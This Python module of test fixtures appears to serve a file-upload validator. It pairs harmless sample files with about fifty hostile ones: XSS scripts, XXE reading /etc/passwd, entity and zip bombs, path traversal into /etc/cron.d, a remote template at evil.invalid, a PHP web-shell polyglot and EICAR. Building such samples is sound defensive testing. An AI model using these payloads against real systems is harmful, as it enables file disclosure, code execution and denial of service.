"""Files of every permitted kind, and forty that must not get in or must come out inert."""

import io
import stat
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"<script>alert(1)</script>"
HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'
PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
EXE = b"MZ\x90\x00" + bytes(200)

MAIN = {"docx": "word/document.xml", "pptx": "ppt/presentation.xml", "xlsx": "xl/workbook.xml"}
ODT_TYPE = b"application/vnd.oasis.opendocument.text"
REMOTE_TEMPLATE = (
    b'<Relationships><Relationship Type="http://x/attachedTemplate"'
    b' Target="http://evil.invalid/t.dotm" TargetMode="External"/></Relationships>'
)
HYPERLINK = (
    b'<Relationships><Relationship Type="http://x/hyperlink"'
    b' Target="https://exempel.invalid/" TargetMode="External"/></Relationships>'
)


def archive(*parts) -> bytes:
    """Return a zip of (name or ZipInfo, content) parts, packed."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts:
            made.writestr(name, content, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def office(extension: str, *more, types: bytes = b"<Types/>") -> bytes:
    """Return an office document with further parts."""
    if extension == "odt":
        return archive(("mimetype", ODT_TYPE), ("content.xml", b"<office/>"), *more)
    return archive(("[Content_Types].xml", types), (MAIN[extension], b"<document/>"), *more)


def picture(kind: str = "PNG", size=(20, 10), **options) -> bytes:
    """Return a picture in one colour."""
    buffer = io.BytesIO()
    Image.new("RGB", size, "#11564b").save(buffer, kind, **options)
    return buffer.getvalue()


def animation() -> bytes:
    """Return a GIF of three frames."""
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("#000", "#f00", "#fff")]
    buffer = io.BytesIO()
    frames[0].save(buffer, "GIF", save_all=True, append_images=frames[1:])
    return buffer.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """Return a PNG whose header claims a size that its data does not hold."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = zlib.compress(bytes(1000))
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
    )


def png_with_text_bomb() -> bytes:
    """Return a PNG whose compressed text unpacks to 20 MB."""
    good = picture()
    text = b"Comment\x00\x00" + zlib.compress(bytes(20_000_000))
    chunk = (
        struct.pack(">I", len(text))
        + b"zTXt"
        + text
        + struct.pack(">I", zlib.crc32(b"zTXt" + text))
    )
    return good[:33] + chunk + good[33:]


def lying_archive() -> bytes:
    """Return a docx whose directory states a huge size for a small part."""
    content = bytearray(office("docx", ("word/media.xml", b"<x/>")))
    place = content.rfind(b"PK\x01\x02")
    content[place + 24 : place + 28] = struct.pack("<I", 0xFFFFFFF0)
    return bytes(content)


def encrypted_archive() -> bytes:
    """Return a docx whose first part is marked as encrypted."""
    content = bytearray(office("docx"))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(mark)
        content[place + offset] |= 1
    return bytes(content)


def symlink() -> zipfile.ZipInfo:
    """Return the entry of a symbolic link."""
    entry = zipfile.ZipInfo("word/link.xml")
    entry.create_system = 3
    entry.external_attr = (stat.S_IFLNK | 0o777) << 16
    return entry


GOOD_DOCUMENTS = {
    "avtal.pdf": PDF,
    "tabell.csv": "kod;namn\n0180;Stockholm\n2584;Kiruna å ä ö\n".encode(),
    "windows.csv": "kod;namn\r\n2584;Kiruna å ä ö\r\n".encode("cp1252"),
    "text.txt": "Brödtext med < och > och &.\n".encode(),
    "avtal.docx": office("docx", ("word/_rels/document.xml.rels", HYPERLINK)),
    "tabell.xlsx": office("xlsx", ("xl/worksheets/sheet1.xml", b"<r/>" * 900_000)),
    "bilder.pptx": office("pptx", ("ppt/media/bild.png", picture())),
    "avtal.odt": office("odt"),
    "Årsredovisning 2025 (slutlig).PDF": PDF,
}
GOOD_PICTURES = {
    "bild.png": picture(),
    "bild.jpg": picture("JPEG"),
    "bild.jpeg": picture("JPEG"),
    "bild.webp": picture("WEBP"),
    "bild.gif": picture("GIF"),
    "rörlig.gif": animation(),
}

EVIL_DOCUMENTS = {
    "script.svg": SVG,
    "svg-som.pdf": SVG,
    "svg-som.txt": SVG,
    "sida.html": HTML,
    "html-som.pdf": HTML,
    "html-som.csv": b"a;b\n" + HTML,
    "html-som.txt": HTML,
    "polyglott.pdf": b"%PDF-1.7\n" + HTML + PDF,
    "html-före.pdf": HTML + PDF,
    "avhugget.pdf": PDF[:30],
    "pdf-som.docx": PDF,
    "bomb-tät.docx": office("docx", ("word/a.xml", bytes(20_000_000))),
    "bomb-stor.docx": office("docx", *[(f"word/{n}.xml", bytes(2_000_000)) for n in range(60)]),
    "bomb-många.xlsx": office("xlsx", *[(f"xl/{n}.xml", b"") for n in range(3001)]),
    "bomb-ljuger.docx": lying_archive(),
    "nästlad.docx": office("docx", ("word/embeddings/inre.zip", archive(("a", b"b")))),
    "nästlad.odt": office("odt", ("inre.docx", office("docx"))),
    "länk.docx": office("docx", (symlink(), b"/etc/passwd")),
    "uppåt.docx": office("docx", ("../../etc/cron.d/x", b"x")),
    "rot.docx": office("docx", ("/etc/cron.d/x", b"x")),
    "enhet.docx": office("docx", ("C:/x.xml", b"x")),
    "avtal.pdf.exe": EXE,
    "exe-som.pdf": EXE,
    "avtal.pdf.": PDF,
    "utan-ändelse": PDF,
    "gömd\u202efdp.exe.pdf": PDF,
    "makro.docm": office("docx", ("word/vbaProject.bin", OLE)),
    "makro.docx": office("docx", ("word/vbaProject.bin", OLE)),
    "makrotyp.xlsx": office("xlsx", types=b'<Types ContentType="x.sheet.macroEnabled.main+xml"/>'),
    "makroblad.xlsx": office("xlsx", ("xl/macrosheets/sheet1.xml", b"<x/>")),
    "makro.odt": office("odt", ("Basic/Standard/Module1.xml", b"<x/>")),
    "gammal.docx": OLE,
    "xxe.docx": office("docx", ("word/settings.xml", XXE)),
    "xxe.xlsx": office("xlsx", ("xl/styles.xml", XXE)),
    "xxe-utf16.docx": office("docx", ("word/settings.xml", XXE.decode().encode("utf-16"))),
    "skratt.pptx": office("pptx", ("ppt/slides/slide1.xml", LAUGHS)),
    "fjärrmall.docx": office("docx", ("word/_rels/settings.xml.rels", REMOTE_TEMPLATE)),
    "lösenord.docx": encrypted_archive(),
    "binär.csv": b"a;b\n\x00\x01\x02",
    "eicar.txt": EICAR,
    "eicar.pdf": EICAR,
}
EVIL_PICTURES = {
    "script.svg": SVG,
    "svg-som.png": SVG,
    "html-som.jpg": HTML,
    "png-som.jpg": picture(),
    "stor.png": picture(size=(7000, 6000)),
    "jätte.png": png_claiming(20_000, 20_000),
    "tom.png": png_claiming(400, 400),
    "avhuggen.png": picture(size=(300, 300))[:200],
    "textbomb.png": png_with_text_bomb(),
    "fotoshop.png": b"8BPS\x00\x01" + bytes(200),
    "bild.php.png": b"GIF89a<?php system('id'); ?>",
    "gif-script.gif": b"GIF89a/*" + SCRIPT + b"*/=1;",
    "bild.tiff": picture("TIFF"),
    "polyglott.png": picture() + HTML,
    "polyglott.jpg": picture("JPEG") + archive(("a.html", HTML)),
}
# These hold what they claim to and are harmless as downloads or pictures.
MAY_PASS = {"eicar.txt", "polyglott.png", "polyglott.jpg"}


def small_pdf(pages: int = 1) -> bytes:
    """Return a PDF of so many empty pages."""
    pdf = pikepdf.Pdf.new()
    for __ in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
    target = io.BytesIO()
    pdf.save(target, deterministic_id=True)
    return target.getvalue()
